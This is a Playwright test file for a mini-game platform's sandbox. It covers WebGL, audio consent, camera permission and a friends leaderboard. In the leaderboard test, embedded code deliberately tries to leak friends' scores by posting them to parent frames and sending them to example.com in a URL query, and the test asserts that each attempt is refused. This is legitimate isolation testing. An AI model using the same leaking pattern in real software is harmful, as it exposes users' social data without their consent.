import { createServer } from "node:http"
import type { AddressInfo } from "node:net"
import type { Browser, Frame, Page } from "@playwright/test"
import { expect, openProgram, Plaza, signIn, test } from "./plaza"

const phone = { viewport: { width: 390, height: 844 }, isMobile: true, hasTouch: true }

// A WebGL that needs no graphics card.
test.use({
	launchOptions: {
		executablePath: process.env.PLAZA_CHROMIUM ?? "/usr/bin/chromium",
		args: [
			"--no-sandbox",
			"--use-angle=swiftshader",
			"--enable-unsafe-swiftshader",
			"--ignore-gpu-blocklist",
			"--disable-background-networking",
			"--no-first-run",
			"--use-fake-ui-for-media-stream",
			"--use-fake-device-for-media-stream",
		],
	},
})

const manifest = (appid: string, more: object = {}) =>
	JSON.stringify({
		app_id: appid,
		name: "Arcade",
		description: "A small game.",
		version: { code: 1, name: "1.0" },
		icons: [],
		x_plaza: { category: "games", kind: "game", ...more },
	})

async function play(browser: Browser, plaza: Plaza, appid: string): Promise<[Page, Frame]> {
	const page = await (await browser.newContext({ ...phone, locale: "en-GB" })).newPage()
	await signIn(page, `${plaza.url}/sign-in`, "person")
	await openProgram(page, `${plaza.url}/p/${appid}`)
	const frame = await (await page.locator("iframe.drawn").elementHandle())?.contentFrame()
	if (!frame) throw new Error("the game has no frame")
	return [page, frame]
}

/** Red until it is touched, green from then on; what happens is kept in `GameGlobal.told`. */
const arcade = `
const told = (GameGlobal.told = { touches: 0, frames: 0, progress: [], shown: 0, hidden: 0 })
const canvas = wx.createCanvas()
const gl = canvas.getContext("webgl")
const draw = () => {
	told.frames++
	gl.clearColor(told.touches ? 0 : 1, told.touches ? 1 : 0, 0, 1)
	gl.clear(gl.COLOR_BUFFER_BIT)
	requestAnimationFrame(draw)
}
draw()
wx.onTouchStart(({ touches: [finger] }) => { told.touches++; told.at = [finger.clientX, finger.clientY] })
wx.onShow(() => told.shown++)
wx.onHide(() => told.hidden++)
try { require("./stages/one/level") } catch (error) { told.early = error.message }
wx.loadSubpackage({ name: "one", success: () => { told.level = require("./stages/one/level").level } })
	.onProgressUpdate(({ progress }) => told.progress.push(progress))
const worker = wx.createWorker("workers/sum.js")
worker.onMessage((message) => { told.sum = message })
worker.postMessage([1, 2, 3])
told.native = typeof Worker
try { wx.createWorker("game.js") } catch (error) { told.elsewhere = error.message }
wx.getFileSystemManager().readFile({ filePath: "data/words.json", encoding: "utf8", success: ({ data }) => { told.words = data } })
const picture = wx.createImage()
picture.onload = () => { told.picture = picture.width }
picture.src = "images/ship.svg"
WebAssembly.instantiate(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])).catch((error) => { told.wasm = error.message })
`

test("a WebGL game draws, hears fingers, brings what it needs later, and rests when it is left", async ({
	browser,
	plaza,
}) => {
	await plaza.publish("arcade", {
		"manifest.json": manifest("arcade"),
		"game.json": JSON.stringify({
			workers: "workers",
			subpackages: [{ name: "one", root: "stages/one" }],
		}),
		"game.js": arcade,
		"stages/one/game.js": 'GameGlobal.told.entry = require("./level").level',
		"stages/one/level.js": `exports.level = "first"\n// ${"filling ".repeat(2_000)}`,
		"workers/sum.js":
			'const { add } = require("./add")\nworker.onMessage((list) => worker.postMessage([add(list), typeof fetch, typeof wx, typeof importScripts]))',
		"workers/add.js": "exports.add = (list) => list.reduce((a, b) => a + b)",
		"data/words.json": '{"hello":"there"}',
		"images/ship.svg":
			'<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40"><circle cx="20" cy="20" r="20"/></svg>',
	})
	const [page, frame] = await play(browser, plaza, "arcade")
	const told = () =>
		frame.evaluate(() => (globalThis as unknown as { told: Record<string, unknown> }).told)
	const colour = async () => {
		const png = (await page.screenshot()).toString("base64")
		return page.evaluate(async (data) => {
			const bytes = Uint8Array.from(atob(data), (letter) => letter.charCodeAt(0))
			const image = await createImageBitmap(new Blob([bytes]))
			const paint = new OffscreenCanvas(1, 1).getContext("2d")
			paint?.drawImage(image, -image.width / 2, -image.height / 2)
			return [...(paint?.getImageData(0, 0, 1, 1).data ?? [])].slice(0, 3)
		}, png)
	}
	await expect.poll(colour).toEqual([255, 0, 0])
	await page.touchscreen.tap(100, 400)
	await expect.poll(colour).toEqual([0, 255, 0])
	expect(await told()).toMatchObject({ touches: 1, at: [100, 400] })

	await expect
		.poll(told)
		.toMatchObject({ level: "first", entry: "first", words: '{"hello":"there"}', picture: 40 })
	await expect
		.poll(told)
		.toMatchObject({ sum: [6, "undefined", "undefined", "undefined"], native: "undefined" })
	const now = await told()
	expect(now.early).toContain("is not defined")
	expect(now.progress).toContain(100)
	expect(now.elsewhere).toContain("createWorker:fail")
	expect(now.wasm).toContain("path of the package")

	// Left, it draws nothing; back again, it goes on.
	await page.getByRole("button", { name: /^Close/ }).tap()
	await expect(page).toHaveURL(`${plaza.url}/`)
	await expect.poll(told).toMatchObject({ hidden: 1 })
	const { frames } = await told()
	await page.evaluate(() => new Promise((done) => setTimeout(done, 300)))
	expect((await told()).frames).toBe(frames)
	await openProgram(page, `${plaza.url}/p/arcade`)
})

test("a game is silent until the person wants to hear it, also what comes of another host", async ({
	browser,
}) => {
	// Four tenths of a second of a tone.
	const samples = Buffer.from(Array.from({ length: 3_200 }, (_, n) => 128 + 60 * Math.sin(n / 3)))
	const head = Buffer.alloc(44)
	head.write("RIFF", 0)
	head.writeUInt32LE(36 + samples.length, 4)
	head.write("WAVEfmt ", 8)
	for (const [at, value] of [
		[16, 16],
		[24, 8_000],
		[28, 8_000],
		[40, samples.length],
	] as const)
		head.writeUInt32LE(value, at)
	for (const [at, value] of [
		[20, 1],
		[22, 1],
		[32, 1],
		[34, 8],
	] as const)
		head.writeUInt16LE(value, at)
	head.write("data", 36)
	const asked: string[] = []
	const server = createServer((request, response) => {
		asked.push(request.headers.range ?? "")
		response.writeHead(200, { "Content-Type": "audio/wav" }).end(Buffer.concat([head, samples]))
	})
	await new Promise<void>((done) => server.listen(0, "127.0.0.1", done))
	const { port } = server.address() as AddressInfo
	const host = `sounds.test:${port}`
	const plaza = await Plaza.start(["--proxy-allow", `${host}=127.0.0.1:${port}`])
	try {
		await plaza.publish("drum", {
			"manifest.json": manifest("drum"),
			"game.json": "{}",
			"game.js": `wx.createCanvas().getContext("2d").fillRect(0, 0, 9, 9)
				const audio = (GameGlobal.audio = wx.createInnerAudioContext())
				GameGlobal.told = []
				audio.onPlay(() => GameGlobal.told.push("play"))
				audio.onError(() => GameGlobal.told.push("error"))
				audio.onEnded(() => GameGlobal.told.push("ended"))
				audio.src = "http://${host}/drum.wav"
				wx.onTouchStart(() => audio.play())`,
		})
		await plaza.call("creator", "/api/mp/drum/domains", {
			add: { request: [host], download: [host] },
		})
		const [page, frame] = await play(browser, plaza, "drum")
		await page.touchscreen.tap(100, 400)
		await expect(page.getByText("Sound is off")).toBeVisible()
		await expect
			.poll(() => frame.evaluate(() => (globalThis as unknown as { told: string[] }).told))
			.toEqual(["play", "ended"])
		expect(asked[0]).toMatch(/^bytes=0-/)
		const kept = () => page.evaluate(() => localStorage.getItem("plaza.heard"))
		expect(await kept()).toBeNull()
		await page.getByRole("button", { name: /^More about/ }).tap()
		await page.getByRole("button", { name: "Turn sound on" }).tap()
		await expect.poll(kept).toBe('["drum"]')
		await page.getByRole("button", { name: /^More about/ }).tap()
		await expect(page.getByRole("button", { name: "Turn sound off" })).toBeVisible()
	} finally {
		await plaza.stop()
		server.close()
	}
})

interface Launched {
	token: string
}

test("what a game knows of friends it shows, and neither reads nor tells", async ({
	browser,
	plaza,
}) => {
	await plaza.publish("league", {
		"manifest.json": manifest("league", {
			scopes: ["profile"],
			leaderboards: [
				{
					id: "score",
					names: { en: "Score", fr: "Score", zh: "分数" },
					sort: "desc",
					operator: "best",
				},
			],
		}),
		"game.json": JSON.stringify({ openDataContext: "friends" }),
		"game.js": `
			const canvas = wx.createCanvas()
			const paint = canvas.getContext("2d")
			const open = wx.getOpenDataContext()
			const heard = []
			addEventListener("message", ({ data }) => heard.push(data))
			open.canvas.width = 300
			open.canvas.height = 200
			open.postMessage({ ask: "score" })
			GameGlobal.told = {
				context: () => String(open.canvas.getContext("2d")),
				read: () => { const copy = wx.createCanvas(); const c = copy.getContext("2d"); c.drawImage(open.canvas, 0, 0); return c.getImageData(0, 0, 300, 150).data.some((value) => value > 0) },
				heard: () => heard,
				others: () => [parent.length, (() => { try { return String(parent[1]) } catch (error) { return error.message } })()],
				save: (score) => wx.setUserCloudStorage({ KVDataList: [{ key: "score", value: JSON.stringify({ wxgame: { score } }) }] }),
				friends: () => wx.getFriendCloudStorage({ keyList: ["score"] }).then(JSON.stringify, (error) => error.errMsg),
			}
			const step = () => {
				paint.fillStyle = "#113355"; paint.fillRect(0, 0, canvas.width, canvas.height)
				paint.drawImage(open.canvas, 0, canvas.height / 4, canvas.width, canvas.height / 2)
				requestAnimationFrame(step)
			}
			step()`,
		"friends/index.js": `
			const shared = wx.getSharedCanvas()
			const paint = shared.getContext("2d")
			wx.onMessage(({ ask }) => {
				wx.getFriendCloudStorage({ keyList: [ask], success: ({ data }) => {
					GameGlobal.seen = data
					paint.fillStyle = "#ffffff"; paint.fillRect(0, 0, shared.width, shared.height)
					paint.fillStyle = "#000000"; paint.font = "20px sans-serif"
					data.forEach((one, n) => paint.fillText(one.nickname + " " + one.KVDataList[0].value, 10, 30 + n * 24))
					// Whatever it tries, the game hears nothing.
					for (const to of [parent, top, parent[0], top[0]]) try { to.postMessage(JSON.stringify(data), "*") } catch {}
					Promise.all([
						wx.request({ url: "https://example.com/?" + JSON.stringify(data) }).catch((error) => error.errMsg),
						fetch("/api/plaza").then(() => "fetched", () => "refused"),
						new Promise((done) => { const image = new Image(); image.onload = () => done("loaded"); image.onerror = () => done("refused"); image.src = "/mp/x.png" }),
						Promise.resolve(typeof localStorage),
					]).then((tried) => (GameGlobal.tried = tried))
				} })
			})`,
	})
	const launch = async (who: string) => {
		const { token } = await plaza.call<Launched>(who, "/api/mp/league/launch", {})
		return async (method: string, args: object) => {
			const answer = await fetch(`${plaza.url}/api/mp/league/bridge/${method}`, {
				method: "POST",
				headers: {
					"Content-Type": "application/json",
					Authorization: await plaza.token(who),
					"X-Launch-Token": token,
				},
				body: JSON.stringify({ args }),
			})
			return (await answer.json()) as Record<string, unknown>
		}
	}
	for (const [who, score] of [
		["neighbour1", 70],
		["neighbour9", 90],
	] as const) {
		const bridge = await launch(who)
		const { play } = await bridge("leaderboards.play", { board: "score" })
		await bridge("leaderboards.submit", { board: "score", play, score })
	}
	const [page, frame] = await play(browser, plaza, "league")
	const told = (name: string): Promise<unknown> =>
		frame.evaluate(
			(which) => (globalThis as unknown as { told: Record<string, () => unknown> }).told[which]?.(),
			name,
		)
	const open = page.locator("[data-open='league'] iframe")
	await expect(open).toBeVisible()
	const other = await (await open.elementHandle())?.contentFrame()
	const seen = () =>
		other?.evaluate(() => (globalThis as unknown as { seen?: Record<string, unknown>[] }).seen)
	await expect.poll(seen).toHaveLength(1) // the stranger is nobody's friend
	const friend = (await seen())?.[0]
	expect(friend).toMatchObject({ openid: "", KVDataList: [{ key: "score", value: "70" }] })
	expect(friend?.nickname).not.toBe("")
	await expect
		.poll(() => other?.evaluate(() => (globalThis as unknown as { tried?: unknown }).tried))
		.toEqual([
			"request:fail not supported in the open data context",
			"refused",
			"refused",
			"undefined",
		])
	const box = await page.locator("[data-open='league']").boundingBox()
	expect(box?.height).toBeCloseTo(422, -1)

	// The game sees an empty canvas, hears no word, finds no other frame, and may not ask itself.
	expect(await told("context")).toBe("null")
	expect(await told("read")).toBe(false)
	expect(await told("heard")).toEqual([])
	expect(await told("others")).toEqual([1, expect.stringContaining("Blocked")])
	expect(await told("friends")).toContain("fail")
	await frame.evaluate(() =>
		(globalThis as unknown as { told: { save(score: number): unknown } }).told.save(42),
	)
	const bridge = await launch("person")
	await expect
		.poll(() => bridge("leaderboards.mine", { board: "score" }))
		.toMatchObject({ score: 42 })
})

test("a page has a camera when the person agrees, and the picker has regions", async ({
	browser,
	plaza,
}) => {
	await plaza.publish("lens", {
		"manifest.json": JSON.stringify({
			app_id: "lens",
			name: "Lens",
			description: "What is there.",
			version: { code: 1, name: "1.0" },
			icons: [],
			x_plaza: { category: "tools", scopes: ["camera"] },
		}),
		"app.json": JSON.stringify({ pages: ["pages/index/index"] }),
		"app.js": "App({})",
		"pages/index/index.wxml": `<camera wx:if="{{on}}" style="width:300px;height:200px" bindinitdone="ready" binderror="fail" bindstop="stopped"/>
			<button bindtap="open">Open</button><button bindtap="photo">Photo</button>
			<picker mode="region" bindchange="region"><view>Region</view></picker>
			<text>{{said}}</text><text>{{where}}</text>`,
		"pages/index/index.js": `Page({
			data: { on: false, said: "", where: "" },
			open() { this.setData({ on: true }) },
			ready() { this.setData({ said: "ready" }) },
			fail(e) { this.setData({ said: e.detail.errMsg }) },
			stopped() { this.setData({ said: "stopped" }) },
			photo() { wx.createCameraContext().takePhoto({ quality: "high",
				success: ({ tempImagePath, size }) => this.setData({ said: "photo " + (size > 1000) + tempImagePath.slice(0, 4) }),
				fail: ({ errMsg }) => this.setData({ said: errMsg }) }) },
			region({ detail }) { this.setData({ where: detail.value.length + " " + detail.code.join("/") + " " + detail.value[0] }) },
		})`,
	})
	const context = await browser.newContext({ ...phone, locale: "en-GB", permissions: ["camera"] })
	const page = await context.newPage()
	await signIn(page, `${plaza.url}/sign-in`, "person")
	const frame = await openProgram(page, `${plaza.url}/p/lens`)
	await frame.getByText("Open", { exact: true }).tap()
	await page
		.getByRole("button", { name: /while|always|once|allow/i })
		.first()
		.tap()
	await expect(frame.getByText("ready")).toBeVisible()
	await expect(page.getByText("Lens is using the camera")).toBeVisible()
	await expect
		.poll(() =>
			frame.locator("wx-camera canvas").evaluate((canvas) => {
				const copy = document.createElement("canvas")
				const paint = copy.getContext("2d")
				paint?.drawImage(canvas as HTMLCanvasElement, 0, 0)
				return new Set(paint?.getImageData(0, 0, 200, 100).data ?? []).size > 2
			}),
		)
		.toBe(true)
	await frame.getByText("Photo", { exact: true }).tap()
	await expect(frame.getByText("photo trueblob")).toBeVisible()

	await frame.getByText("Region", { exact: true }).tap()
	await frame.getByRole("option", { name: "Bretagne" }).waitFor()
	await frame.getByText("Done", { exact: true }).tap()
	await expect(frame.getByText(/^3 84\/01\/\d+ Auvergne-Rhône-Alpes$/)).toBeVisible()

	await page.getByRole("button", { name: /^Close/ }).tap()
	await expect(page.getByText("Lens is using the camera")).toBeHidden()
})
